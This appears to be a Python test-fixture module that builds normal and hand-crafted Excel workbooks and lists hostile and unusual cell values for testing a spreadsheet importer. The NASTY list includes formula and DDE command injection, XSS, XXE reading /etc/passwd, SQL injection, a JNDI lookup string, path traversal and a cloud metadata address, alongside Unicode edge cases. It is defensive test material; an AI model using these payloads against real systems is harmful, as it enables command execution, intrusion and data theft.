# SPDX-FileCopyrightText: 2026 AmStrat Desktop contributors
# SPDX-License-Identifier: EUPL-1.2
"""Files as other programs, careless people and attackers make them."""

import zipfile
from collections.abc import Iterable, Sequence
from io import BytesIO
from typing import Any

from openpyxl import Workbook

_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_RELATIONS = "application/vnd.openxmlformats-package.relationships+xml"
_HEAD = '<?xml version="1.0"?>'

TYPES = (
    f'{_HEAD}<Types xmlns="{_PACKAGE}/content-types">'
    f'<Default Extension="rels" ContentType="{_RELATIONS}"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_KIND}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_KIND}.worksheet+xml"/>'
    "</Types>"
)
RELS = (
    f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
BOOK = (
    f'{_HEAD}<workbook xmlns="{_SHEETS}" xmlns:r="{_OFFICE}">'
    '<sheets><sheet name="Liste" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
BOOK_RELS = (
    f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
SHEET_HEAD = f'{_HEAD}<worksheet xmlns="{_SHEETS}"><sheetData>'
SHEET_END = "</sheetData></worksheet>"


def workbook(rows: Iterable[Sequence[Any]], title: str = "Liste") -> bytes:
    """A workbook as Excel writes it."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(list(row))
    return saved(book)


def saved(book: Workbook) -> bytes:
    file = BytesIO()
    book.save(file)
    return file.getvalue()


def by_hand(
    sheet: str | Iterable[bytes], extra: dict[str, bytes] | None = None, book: str = BOOK
) -> bytes:
    """A workbook of parts that no program would write; sheet: its rows."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as folder:
        folder.writestr("[Content_Types].xml", TYPES)
        folder.writestr("_rels/.rels", RELS)
        folder.writestr("xl/workbook.xml", book)
        folder.writestr("xl/_rels/workbook.xml.rels", BOOK_RELS)
        with folder.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(SHEET_HEAD.encode())
            for piece in [sheet.encode()] if isinstance(sheet, str) else sheet:
                part.write(piece)
            part.write(SHEET_END.encode())
        for name, data in (extra or {}).items():
            folder.writestr(name, data)
    return file.getvalue()


def text_cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_row(number: int, *texts: str) -> str:
    cells = "".join(text_cell(f"{chr(65 + at)}{number}", text) for at, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


HEADED = sheet_row(1, "Name", "Telefon") + sheet_row(2, "Ayşe Probe", "0234 1")

NASTY = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+49234",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("http://example.org","x")',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="file:///etc/passwd">x</a>',
    "<b>fett</b>",
    "&lt;b&gt;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "'; DROP TABLE person; --",
    '" OR ""="',
    "Robert'); DELETE FROM person;--",
    "{name}",
    "{0}",
    "%s%s%s%n",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}",
    "../../../etc/passwd",
    "C:\\Windows\\System32",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "NULL",
    "None",
    "undefined",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "İstanbul ıIiİ",
    "ß ẞ ſ",
    "Z̷a̷l̷g̷o̷ " + "\u0301" * 50,
    "\u202eABC\u202c",
    "\u2066a\u2069",
    "a\u200bb\ufeffc",
    "\u0000nul",
    "a\x07b\x1b[31mc",
    "zeile\r\nzwei",
    "tab\tulator",
    "👩‍👩‍👧‍👦 🇺🇦",
    "شاهين محمد",
    "Олександр",
    "李小龍",
    "ﷺ",
    "\u0600\u0601",
    "𐍈𝔘𝔫𝔦",
    "a" * 150,
    "x" * 5000,
    "😀" * 60,
    "; , | \t",
    '"quoted" ""double""',
    "O'Brien-Müller, Dr.",
    "#REF!",
    "#NAME?",
)
